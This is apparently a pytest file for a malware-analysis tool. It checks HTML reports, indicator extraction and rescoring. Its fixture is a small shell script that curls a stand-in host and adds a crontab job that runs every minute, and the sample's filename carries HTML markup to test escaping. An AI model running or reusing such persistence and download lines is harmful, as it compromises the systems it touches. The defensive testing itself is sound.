"""What a real analysis keeps: a page that shows the run, and all that judging anew needs."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from lazaretto.analysis.report import read_report
from lazaretto.cli.errors import Exit
from lazaretto.cli.main import run

SCRIPT = """#!/bin/sh
uname -a >/tmp/about.txt
curl -s http://files.shop.test/about.txt >/dev/null
( crontab -l 2>/dev/null; echo '* * * * * /tmp/about.txt' ) | crontab -
"""


@pytest.mark.machine("linux")
def test_a_real_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file, page, kept = tmp_path / "<b>run.sh", tmp_path / "page.html", tmp_path / "out"
    file.write_text(SCRIPT)
    assert run(["analyze", "--quiet", "--html", str(page), "--report", str(kept), str(file)]) == Exit.DONE
    (folder,) = kept.iterdir()
    report = read_report(folder)
    assert report.run is not None
    assert {finding.id for finding in report.evidence}
    html = page.read_text()
    assert html == (folder / "report.html").read_text()
    for words in (
        "&lt;b&gt;run.sh",
        "asks for files.shop.test",
        "uname -a",
        "/tmp/about.txt",
        "crontab",
        'href="#r0-e',
    ):
        assert words in html
    assert '"files.shop.test"' in (folder / "indicators.csv").read_text()
    capsys.readouterr()
    assert run(["rescore", "--json", str(kept)]) == Exit.DONE
    told = json.loads(capsys.readouterr().out)
    assert told["same_verdict"]
    assert (told["findings"], told["engines"], told["score"]) == ([], {}, report.score)
    assert run(["rescore", "--write", str(kept)]) == Exit.DONE
    assert read_report(folder) == report
    assert run(["explain", str(folder)]) == Exit.DONE
